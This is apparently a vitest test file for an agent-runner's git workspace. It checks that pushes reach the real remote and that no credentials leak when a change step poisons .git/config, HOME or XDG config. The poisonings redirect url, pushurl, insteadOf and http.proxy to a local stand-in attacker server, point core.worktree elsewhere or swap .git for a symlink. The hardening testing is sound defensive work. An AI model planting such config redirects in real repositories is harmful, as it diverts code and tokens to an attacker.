import { execFile } from "node:child_process";
import { cp, mkdir, readFile, rm, symlink, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { promisify } from "node:util";
import NodeGit from "nodegit";
import { afterEach, beforeAll, describe, expect, it, vi } from "vitest";
import { ChangeFailedError } from "@agent-runner/core";
import type { Sandbox } from "@agent-runner/github-sandbox";
import { configSearchPath, isolateGitConfig, setConfigSearchPath } from "./git-config-isolation.js";
import { NodegitWorkspaceFactory } from "./nodegit-workspace-factory.js";
import { AttackerServer } from "./test-support/attacker-server.js";
import { useGitTestFixture } from "./test-support/git-test-fixture.js";

const run = promisify(execFile);
const AUTHOR = { name: "Agent Runner", email: "agent@example.test" };

const { fixture, tempDir, createRepo, checkout, serverBranches } = useGitTestFixture("untrusted-config");
let sandbox: Sandbox;
let attacker: AttackerServer;

beforeAll(() => {
  sandbox = fixture.sandbox;
});

afterEach(async () => {
  await attacker?.close();
});

/**
 * git as the change command would run it: it reads every config there is, has
 * no credentials and never prompts. It fails against the attacker; what counts
 * is that the attacker saw the request.
 */
async function gitAsTheCommand(args: string[], cwd?: string): Promise<void> {
  await run("git", ["-c", "credential.helper=", ...args], {
    cwd,
    env: { ...process.env, GIT_TERMINAL_PROMPT: "0", GIT_ASKPASS: "/bin/false" },
  }).catch(() => undefined);
}

interface Poisoning {
  readonly name: string;
  /** Rewrites the tree's config the way a change command could. */
  readonly poison: (tree: string, cloneUrl: string) => Promise<void>;
  /** Shows, with git itself, that the poisoned config really sends traffic to the attacker. */
  readonly control: (tree: string, cloneUrl: string) => Promise<void>;
}

async function gitConfig(tree: string, key: string, value: string): Promise<void> {
  await run("git", ["config", key, value], { cwd: tree });
}

const POISONINGS: Poisoning[] = [
  {
    name: "origin's url pointed at the attacker",
    poison: (tree) => gitConfig(tree, "remote.origin.url", `${attacker.url}/acme/stolen.git`),
    control: (tree) => gitAsTheCommand(["fetch", "origin"], tree),
  },
  {
    name: "origin's pushurl pointed at the attacker",
    poison: (tree) => gitConfig(tree, "remote.origin.pushurl", `${attacker.url}/acme/stolen.git`),
    control: (tree) => gitAsTheCommand(["push", "origin", "HEAD:refs/heads/control"], tree),
  },
  {
    name: "url.insteadOf rewriting the server to the attacker",
    poison: (tree) => gitConfig(tree, `url.${attacker.url}/.insteadOf`, `${sandbox.gitUrl}/`),
    control: (tree, cloneUrl) => gitAsTheCommand(["ls-remote", cloneUrl], tree),
  },
  {
    name: "url.pushInsteadOf rewriting pushes to the attacker",
    poison: (tree) => gitConfig(tree, `url.${attacker.url}/.pushInsteadOf`, `${sandbox.gitUrl}/`),
    control: (tree, cloneUrl) => gitAsTheCommand(["push", cloneUrl, "HEAD:refs/heads/control"], tree),
  },
  {
    name: "http.proxy set to the attacker",
    poison: (tree) => gitConfig(tree, "http.proxy", attacker.url),
    control: (tree, cloneUrl) => gitAsTheCommand(["ls-remote", cloneUrl], tree),
  },
];

describe("a working tree whose .git/config the change step rewrote", () => {
  it.each(POISONINGS)("still pushes to the real remote with $name, and the attacker receives nothing", async ({ poison, control }) => {
    attacker = await AttackerServer.start();
    const repo = await createRepo();
    const warn = vi.fn();
    const workspace = await checkout(
      new NodegitWorkspaceFactory({ token: sandbox.tokens.owner, logger: { debug: () => undefined, warn } }),
      repo.cloneUrl,
    );
    await workspace.checkoutNewBranch("agent-task-poisoned", "main");
    const configAtCheckout = await readFile(join(workspace.dir, ".git", "config"), "utf8");

    // The change step: its own change, and the poisoned config.
    await writeFile(join(workspace.dir, "change.txt"), "change\n");
    await poison(workspace.dir, repo.cloneUrl);
    await control(workspace.dir, repo.cloneUrl);
    const attempted = attacker.requests.length;

    const sha = await workspace.commitAll("change", AUTHOR);
    await workspace.push("agent-task-poisoned");

    expect(attempted).toBeGreaterThan(0);
    expect(attacker.requests).toHaveLength(attempted);
    expect(attacker.credentialed).toEqual([]);
    expect((await serverBranches(repo.name)).get("agent-task-poisoned")).toBe(sha);
    expect(await readFile(join(workspace.dir, ".git", "config"), "utf8")).toBe(configAtCheckout);
    expect(warn).toHaveBeenCalledWith(expect.anything(), expect.stringContaining("rewrote the working tree's .git/config"));
  });

  it("commits the tree's own files when the change step points core.worktree at another directory", async () => {
    const repo = await createRepo({ "README.md": "# hello\n" });
    const elsewhere = await tempDir("elsewhere");
    await writeFile(join(elsewhere, "secret.txt"), "from another directory\n");
    const workspace = await checkout(new NodegitWorkspaceFactory({ token: sandbox.tokens.owner }), repo.cloneUrl);
    await workspace.checkoutNewBranch("agent-task-worktree", "main");

    await writeFile(join(workspace.dir, "change.txt"), "change\n");
    await gitConfig(workspace.dir, "core.worktree", elsewhere);
    // git itself now takes the other directory for the working tree.
    expect((await run("git", ["status", "--porcelain"], { cwd: workspace.dir })).stdout).toContain("secret.txt");

    const sha = await workspace.commitAll("change", AUTHOR);
    await workspace.push("agent-task-worktree");

    const files = await run("git", ["ls-tree", "-r", "--name-only", sha!], { cwd: workspace.dir });
    expect(files.stdout.trim().split("\n").sort()).toEqual(["README.md", "change.txt"]);
    expect((await serverBranches(repo.name)).get("agent-task-worktree")).toBe(sha);
  });

  it("refuses to commit or push when the change step replaced .git with a link to another repository", async () => {
    const repo = await createRepo();
    const workspace = await checkout(new NodegitWorkspaceFactory({ token: sandbox.tokens.owner }), repo.cloneUrl);
    await workspace.checkoutNewBranch("agent-task-swapped", "main");
    const copy = join(await tempDir("other-git"), "git");
    await cp(join(workspace.dir, ".git"), copy, { recursive: true });
    await rm(join(workspace.dir, ".git"), { recursive: true });
    await symlink(copy, join(workspace.dir, ".git"));
    await writeFile(join(workspace.dir, "change.txt"), "change\n");

    await expect(workspace.commitAll("change", AUTHOR)).rejects.toBeInstanceOf(ChangeFailedError);
    await expect(workspace.push("agent-task-swapped")).rejects.toBeInstanceOf(ChangeFailedError);
    expect((await serverBranches(repo.name)).has("agent-task-swapped")).toBe(false);
  });
});

describe("git configuration in the worker's HOME and XDG_CONFIG_HOME", () => {
  it("is not read: a checkout and push reach the real remote although it rewrites the server's URL to the attacker", async () => {
    attacker = await AttackerServer.start();
    const repo = await createRepo();
    const home = await tempDir("home");
    const xdg = await tempDir("xdg");
    await writeFile(join(home, ".gitconfig"), `[url "${attacker.url}/"]\n\tinsteadOf = ${sandbox.gitUrl}/\n`);
    await mkdir(join(xdg, "git"));
    await writeFile(join(xdg, "git", "config"), `[url "${attacker.url}/"]\n\tpushInsteadOf = ${sandbox.gitUrl}/\n[http]\n\tproxy = ${attacker.url}\n`);
    const saved = { HOME: process.env["HOME"], XDG_CONFIG_HOME: process.env["XDG_CONFIG_HOME"] };
    try {
      // As if the worker had started with this HOME: libgit2 guesses its search paths from the environment.
      process.env["HOME"] = home;
      process.env["XDG_CONFIG_HOME"] = xdg;
      setConfigSearchPath("global", null);
      setConfigSearchPath("xdg", null);
      expect(configSearchPath("global")).toBe(home);
      // The attack is live for libgit2: a remote created the ordinary way is rewritten to the attacker.
      const probe = await NodeGit.Repository.init(await tempDir("probe"), 1);
      const probeRemote = await NodeGit.Remote.createAnonymous(probe, repo.cloneUrl);
      expect([probeRemote.url(), probeRemote.pushurl()]).toEqual([
        repo.cloneUrl.replace(sandbox.gitUrl, attacker.url),
        repo.cloneUrl.replace(sandbox.gitUrl, attacker.url),
      ]);
      await probe.cleanup();

      for (const cacheDir of [undefined, await tempDir("cache")]) {
        const workspace = await checkout(new NodegitWorkspaceFactory({ token: sandbox.tokens.owner, cacheDir }), repo.cloneUrl);
        const branch = `agent-task-home-${cacheDir === undefined ? "direct" : "cached"}`;
        await workspace.checkoutNewBranch(branch, "main");
        await writeFile(join(workspace.dir, "change.txt"), "change\n");
        const sha = await workspace.commitAll("change", AUTHOR);
        await workspace.push(branch);

        expect((await serverBranches(repo.name)).get(branch)).toBe(sha);
      }
      expect(configSearchPath("global")).not.toBe(home);
      expect(attacker.requests).toEqual([]);
    } finally {
      restoreEnv(saved);
      isolateGitConfig();
    }
  });
});

function restoreEnv(saved: Record<string, string | undefined>): void {
  for (const [name, value] of Object.entries(saved)) {
    if (value === undefined) delete process.env[name];
    else process.env[name] = value;
  }
}
